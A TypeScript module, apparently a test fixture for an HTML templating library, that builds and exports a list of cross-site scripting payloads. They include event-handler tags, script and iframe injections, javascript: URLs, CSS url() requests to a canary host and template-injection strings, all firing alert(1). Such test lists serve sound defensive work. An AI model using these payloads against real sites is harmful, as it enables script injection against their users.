const CALL = 'alert(1)';
const REQUEST = '//canary.invalid/x';

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const TAGS = [
  (on: string) => `<img src=x ${on}=${CALL}>`,
  (on: string) => `<svg ${on}=${CALL}>`,
  (on: string) => `"><body ${on}=${CALL}>`,
  (on: string) => `'><input autofocus ${on}='${CALL}'>`,
  (on: string) => `<details open ${on}=${CALL}>x</details>`,
  (on: string) => `<video src=x ${on}=${CALL}></video>`,
  (on: string) => `<x-y style=animation-name:x ${on}=${CALL}>`,
  (on: string) => `<math><mtext><img src ${on}=${CALL}></mtext></math>`,
  (on: string) => `" ${on}="${CALL}" x="`,
  (on: string) => `' ${on}='${CALL}' x='`,
  (on: string) => `\`${on}=${CALL} `,
  (on: string) => `<IMG/SRC=x/${on.toUpperCase()}=${CALL}//`,
  (on: string) => `<svg/${on}\t=\t${CALL}>`,
  (on: string) => `<marquee ${on}=${CALL}>x</marquee>`,
  (on: string) => `<style>@keyframes x{}</style><b style="animation:x" ${on}="${CALL}">`,
  (on: string) => `<a href="#" ${on}=${CALL} tabindex=1>x</a>`,
  (on: string) => `<iframe ${on}=${CALL}></iframe>`,
  (on: string) => `--><img src ${on}=${CALL}><!--`,
];
const OTHERS = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<script src=${REQUEST}></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `</title></style></textarea><script>${CALL}</script>`,
  `<img src=${REQUEST}>`,
  `<link rel=stylesheet href=${REQUEST}>`,
  `<style>@import "${REQUEST}";</style>`,
  `<div style="background:url(${REQUEST})">`,
  `<base href=${REQUEST}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${CALL}</script></svg>#x"></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<?lit$123$?><img src onerror=${CALL}>`,
  `lit$1234567890$`,
  `<!--lit-part--><script>${CALL}</script>`,
  `?lit$${'9'.repeat(9)}$`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `url(${REQUEST})`,
  `red;background:url(${REQUEST})`,
  `expression(${CALL})`,
  `__proto__`,
  `constructor`,
];

/** Strings that became a script, a request or an element somewhere, sometime. Their script is `alert(1)`. */
export const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => tag(handler))),
  ...OTHERS,
];

/** A part of every address that a payload would request. */
export const CANARY = 'canary.invalid';
